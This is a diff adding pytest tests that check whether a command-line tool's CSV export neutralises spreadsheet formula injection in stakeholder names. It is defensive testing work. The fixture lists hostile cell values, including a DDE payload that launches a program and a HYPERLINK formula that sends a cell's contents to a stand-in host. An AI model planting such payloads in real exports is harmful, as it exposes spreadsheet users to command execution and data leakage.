@@ -274,3 +274,31 @@ def test_report_writes_the_file_and_says_where(tmp_path, capsys):
 
 def test_docstring_examples_run():
     assert doctest.testmod(cli, optionflags=doctest.ELLIPSIS).failed == 0
+
+
+@pytest.fixture(scope="module")
+def hostile_names(tmp_path_factory):
+    """The example with every stakeholder renamed to a text a spreadsheet would run (or a bare CR)."""
+    a = wijknet.load_example()
+    starts = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1\r2"]
+    for i, (sid, row) in enumerate(a.stakeholders(include_sensitive=True).iterrows()):
+        record = a.stakeholder(sid, include_sensitive=True)
+        a.update_stakeholder(sid, f"{starts[i % len(starts)]} {i}", record["kind"], record["roles"], record["waves"],
+                             record["attributes"], [k for k in record["attributes"] if k in row.attrs.get("sensitive", [])])
+    folder = tmp_path_factory.mktemp("hostile") / "data"
+    wijknet.write(a, folder)
+    return folder
+
+
+@pytest.mark.parametrize("command", TABLE_COMMANDS)
+def test_csv_output_runs_nothing_in_a_spreadsheet(command, hostile_names, capsys):
+    for names in ([], ["--show-names"]):
+        wave = [] if command == "summary" else ["--wave", "T1"]
+        status, out, err = run([command, hostile_names, "--format", "csv", *wave, *names], capsys)
+        assert status == 0, err
+        cells = [cell for row in csv.reader(io.StringIO(out, newline="")) for cell in row]
+        if command in ("coverage", "suggest"):  # their first table has a column of names
+            assert any(cell.startswith(("'=", "'+", "'-", "'@")) for cell in cells)
+        formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
+                    and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c)]
+        assert formulas == []
